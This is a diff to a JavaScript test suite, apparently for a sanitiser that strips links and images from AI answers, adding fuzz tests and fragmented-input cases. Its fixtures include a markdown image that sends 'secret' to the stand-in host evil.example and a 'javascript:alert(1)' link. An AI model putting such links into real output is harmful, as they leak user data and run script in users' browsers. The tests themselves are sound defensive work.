@@ -76,6 +76,17 @@ describe('the text of an answer', () => {
     );
   });
 
+  test('holds no image where only images are harmful, however it comes', () => {
+    fc.assert(
+      fc.property(anyAnswer, (bricks) => {
+        const { text } = shown(bricks, '', NO_IMAGES);
+        expect(text).not.toContain('![');
+        expect(shown([bricks.join('')], '', NO_IMAGES).text).toBe(text);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
   test.each([
     ['![chart](https://evil.example/?q=secret)', '![chart] ((link removed))'],
     ['See [the report](javascript:alert(1)).', 'See [the report] (javascript:alert(1)).'],
@@ -84,8 +95,15 @@ describe('the text of an answer', () => {
     ['![a][d9](//evil.example/x)', '![a] ((link removed))'],
     ['Go to www.evil.example now', 'Go to (link removed) now'],
     ['HTTPS://EVIL.EXAMPLE', '(link removed)'],
-  ])('makes %j plain', (said, expected) => {
+    ['<\n[d9]!-- x', '<\n!-- x'],
+    ['< [d9] [d9]! x', '< ! x'],
+    ['//evil [d9]. x', '//evil . x'],
+    ['www [d9], x', 'www , x'],
+    ['www.\n[d9], x', '(link removed)\n, x'],
+    ['<[d9]http][d1, d9]', '< http][d1]'],
+  ])('makes %j plain, whole and in pieces', (said, expected) => {
     expect(shown([said]).text).toBe(expected);
+    expect(shown(said.split(/(?<=\s)|(?=[[\s])|(?<=\])/)).text).toBe(expected);
   });
 
   test.each([
